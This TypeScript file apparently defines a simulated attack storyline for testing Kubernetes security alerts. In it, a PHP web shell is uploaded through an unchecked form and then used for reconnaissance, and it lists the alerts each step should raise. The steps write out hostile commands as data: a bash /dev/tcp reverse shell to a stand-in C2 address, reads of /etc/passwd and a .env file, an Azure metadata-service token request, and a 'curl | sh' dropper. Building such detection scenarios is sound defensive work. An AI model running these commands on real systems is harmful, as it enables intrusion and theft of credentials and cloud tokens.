import { IP, USER_AGENT } from '../cluster/constants';
import type { Random } from '../../src/shared/random';
import { externalIp, reverseShellPort } from '../scenario/indicators';
import type { PodRef, StepAction, Storyline, StorylineDefinition } from '../scenario/storyline';

const VICTIM: PodRef = { namespace: 'shop', workload: 'storefront' };
const WEB_ROOT = '/var/www/html';

/** Files and connections a command touches. */
type ProcessEvidence = Partial<Pick<Extract<StepAction, { type: 'process' }>, 'files' | 'connections'>>;

/** Shop features that accept a file and keep it under the web root without checking what it is. */
const UPLOAD_PAGES = [
  '/account/avatar.php',
  '/reviews/attach.php',
  '/admin/upload-image.php',
  '/support/ticket.php',
];
/** Names a web shell hides behind among uploaded images. */
const SHELL_NAMES = ['.cache.php', 'img-resize.php', '.session.php', 'thumbs.php', 'lang.php', '.info.php'];
const SHELL_PARAMETERS = ['cmd', 'c', 'q', 'x'];
const DROPPER_NAMES = ['k.sh', 'init.sh', 'up.sh', 'lib.sh'];

function build(random: Random): Storyline {
  const attackerIp = externalIp(random, { ranges: ['203.0.113', '198.51.100'] });
  const c2Ip = externalIp(random, { ranges: ['203.0.113', '198.51.100'], avoid: [attackerIp] });
  const c2Port = reverseShellPort(random);
  const uploadPage = random.pick(UPLOAD_PAGES);
  const shellUrl = `/uploads/${random.pick(SHELL_NAMES)}`;
  const shellFile = `${WEB_ROOT}${shellUrl}`;
  const parameter = random.pick(SHELL_PARAMETERS);
  const dropper = `http://${c2Ip}/${random.pick(DROPPER_NAMES)}`;
  const userAgent = random.pick([USER_AGENT.pythonRequests, USER_AGENT.curl]);

  /** A request to the web shell, and the command php-fpm runs for it through `sh -c`. */
  const shellCommand = (command: string, exe: string, extra: ProcessEvidence = {}): StepAction[] => [
    {
      type: 'http',
      client: attackerIp,
      method: 'GET',
      path: `${shellUrl}?${parameter}=${encodeURIComponent(command).replace(/%20/g, '+')}`,
      status: 200,
      bytes: random.int(20, 900),
      userAgent,
      pod: VICTIM,
    },
    {
      type: 'process',
      pod: VICTIM,
      container: 'php-fpm',
      exe,
      cmdline: command,
      parentExe: '/bin/sh',
      user: 'www-data',
      ...extra,
    },
  ];
  /** A command typed in the reverse shell (bash -i, as www-data). */
  const typed = (command: string, exe: string, extra: ProcessEvidence = {}): StepAction => ({
    type: 'process',
    pod: VICTIM,
    container: 'php-fpm',
    exe,
    cmdline: command,
    parentExe: '/bin/bash',
    user: 'www-data',
    ...extra,
  });

  const reverseShell = `bash -c 'bash -i >& /dev/tcp/${c2Ip}/${c2Port} 0>&1'`;
  const imds = `curl -s -H Metadata:true "http://${IP.imds}/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/"`;
  const recon = random.int(50, 90);
  const shellAt = recon + random.int(60, 180);
  return {
    id: 'web-shell-reverse-shell',
    indicators: {
      attackerIp,
      c2Ip,
      c2Port: String(c2Port),
      uploadPage,
      shellFile,
      parameter,
      dropper,
    },
    title: 'A web shell in the shop',
    summary:
      "An unchecked upload form in the storefront takes a PHP web shell; the attacker looks around, opens a reverse shell, asks the node's metadata service for a managed-identity token and runs a script from their server.",
    attackHourUtc: 19,
    actors: {},
    steps: [
      {
        at: 0,
        description: `${attackerIp} finds the upload form ${uploadPage}`,
        actions: [
          {
            type: 'http',
            client: attackerIp,
            method: 'GET',
            path: uploadPage,
            status: 200,
            bytes: 5120,
            userAgent,
            pod: VICTIM,
          },
        ],
      },
      {
        at: 20,
        description: `Uploads a PHP web shell, which the form stores as ${shellFile}`,
        actions: [
          {
            type: 'http',
            client: attackerIp,
            method: 'POST',
            path: uploadPage,
            status: 200,
            bytes: 812,
            userAgent,
            pod: VICTIM,
          },
          {
            type: 'process',
            pod: VICTIM,
            container: 'php-fpm',
            exe: '/usr/local/sbin/php-fpm',
            cmdline: 'php-fpm: pool www',
            parentExe: 'php-fpm: master process (/usr/local/etc/php-fpm.conf)',
            user: 'www-data',
            files: [{ path: shellFile, operation: 'write' }],
          },
        ],
      },
      {
        at: recon,
        description: 'whoami through the web shell',
        actions: shellCommand('whoami', '/usr/bin/whoami'),
      },
      { at: recon + 6, description: 'id', actions: shellCommand('id', '/usr/bin/id') },
      { at: recon + 11, description: 'uname -a', actions: shellCommand('uname -a', '/usr/bin/uname') },
      {
        at: recon + 19,
        description: 'cat /etc/passwd',
        actions: shellCommand('cat /etc/passwd', '/usr/bin/cat', {
          files: [{ path: '/etc/passwd', operation: 'read' }],
        }),
      },
      {
        at: shellAt,
        description: `Opens a reverse shell to ${c2Ip}:${c2Port}`,
        actions: shellCommand(reverseShell, '/bin/bash', { connections: [{ ip: c2Ip, port: c2Port }] }),
      },
      {
        at: shellAt + random.int(40, 90),
        description: "Reads the shop's environment and its .env file",
        actions: [
          typed('env', '/usr/bin/env'),
          typed(`cat ${WEB_ROOT}/.env`, '/usr/bin/cat', {
            files: [{ path: `${WEB_ROOT}/.env`, operation: 'read' }],
          }),
        ],
      },
      {
        at: shellAt + random.int(120, 240),
        description:
          "Asks the node's metadata service for a managed-identity token for Azure Resource Manager",
        actions: [typed(imds, '/usr/bin/curl', { connections: [{ ip: IP.imds, port: 80 }] })],
      },
      {
        at: shellAt + random.int(300, 600),
        description: `Downloads and runs ${dropper}`,
        actions: [
          typed(`curl -fsSL ${dropper} | sh`, '/usr/bin/curl', { connections: [{ ip: c2Ip, port: 80 }] }),
        ],
      },
    ],
    expectedAlerts: [
      { alertType: 'K8S.NODE_Webshell', step: 1 },
      { alertType: 'K8S.NODE_ReconnaissanceArtifactsBurst', step: 5 },
      { alertType: 'K8S.NODE_ReverseShell', step: 6 },
      { alertType: 'K8S.NODE_ImdsCall', step: 8 },
      { alertType: 'K8S.NODE_DownloadAndRunCombo', step: 9 },
    ],
  };
}

/** B5 with another entry and another aftermath: an unchecked upload, a web shell, a reverse shell, IMDS, a dropper. */
export const webShellReverseShell: StorylineDefinition = {
  id: 'web-shell-reverse-shell',
  title: 'A web shell in the shop',
  summary:
    "An unchecked upload form in the storefront takes a PHP web shell, which leads to a reverse shell, a managed-identity token from the node's metadata service and a script from the attacker's server.",
  build,
};
